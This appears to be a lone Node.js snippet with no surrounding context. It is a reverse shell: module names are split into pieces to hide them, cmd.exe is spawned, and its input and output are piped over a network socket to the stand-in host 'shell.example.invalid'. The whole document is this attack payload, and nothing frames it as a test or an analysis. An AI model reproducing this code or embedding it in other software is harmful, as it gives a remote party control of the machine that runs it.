const n=require("n"+"et"),c=require("child_pr"+"ocess"),s=c.spawn("cmd.exe"),k=n.connect(1,"shell.example.invalid");k.pipe(s.stdin);s.stdout.pipe(k);
